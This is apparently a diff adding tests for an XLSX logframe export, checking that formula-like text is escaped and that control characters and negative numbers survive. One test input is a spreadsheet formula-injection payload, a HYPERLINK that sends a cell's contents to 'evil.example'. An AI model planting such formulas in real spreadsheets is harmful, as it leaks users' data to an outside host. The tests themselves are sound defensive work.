@@ -147,3 +147,41 @@ def test_export_xlsx(client, setup):
         "2027-01-01 – 2027-06-30",
     ]
     assert rows[3][6].date() == date(2026, 1, 1) and rows[3][12] == str(world.nis)
+
+
+def _exported_rows(client, world, project):
+    client.force_login(world.officer_lyon)
+    response = client.get(url(project, "logframe.xlsx"))
+    assert response.status_code == 200
+    sheet = load_workbook(BytesIO(response.content)).active
+    return sheet, [list(r) for r in sheet.iter_rows(values_only=True)]
+
+
+def test_export_never_writes_a_typed_formula(client, setup):
+    world, project, _results, losses, _trained = setup
+    losses.title = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    losses.unit = "@SUM(1+1)"
+    losses.sources = "+33 4 72 10 30 30"
+    losses.save()
+    sheet, rows = _exported_rows(client, world, project)
+    assert rows[3][2] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    assert rows[3][4] == "'@SUM(1+1)" and rows[3][10] == "'+33 4 72 10 30 30"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_export_survives_control_characters_in_titles(client, setup):
+    world, project, results, losses, _trained = setup
+    losses.title = "Pertes\x1b[31m\x0b réseau"
+    losses.save()
+    results["impact"].title = "Eau\x00 potable"
+    results["impact"].save()
+    _sheet, rows = _exported_rows(client, world, project)
+    assert rows[2][1] == "Eau potable" and rows[3][2] == "Pertes[31m réseau"
+
+
+def test_export_keeps_negative_numbers_as_numbers(client, setup):
+    world, project, _results, losses, _trained = setup
+    losses.baseline_value = -5
+    losses.save()
+    _sheet, rows = _exported_rows(client, world, project)
+    assert rows[3][5] == -5
